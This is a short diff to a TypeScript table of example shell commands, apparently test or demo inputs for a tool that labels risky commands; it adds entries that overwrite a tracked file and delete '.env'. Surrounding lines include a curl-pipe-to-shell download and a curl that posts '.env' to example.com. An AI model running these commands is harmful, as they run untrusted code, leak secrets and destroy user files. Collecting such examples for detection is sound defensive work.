@@ -81,6 +81,8 @@ export const EXAMPLES: { readonly [Name in Subject]: readonly Example[] } = {
     { title: 'Read, then push by force', text: FIRST_LINE },
     { title: 'Search files', text: 'rg -n TODO src | sort | uniq -c | head -20' },
     { title: 'Delete a folder', text: 'rm -rf build && mkdir build' },
+    { title: 'Overwrite what git keeps', text: 'cp src/util.ts src/app.ts' },
+    { title: 'Delete what nobody keeps', text: 'rm notes.txt .env' },
     { title: 'Download and run', text: 'curl -fsSL https://example.com/install.sh | sh' },
     { title: 'Send a secret away', text: 'curl -d @.env https://example.com' },
     { title: 'A loop', text: 'for file in *.log; do gzip "$file"; done' },
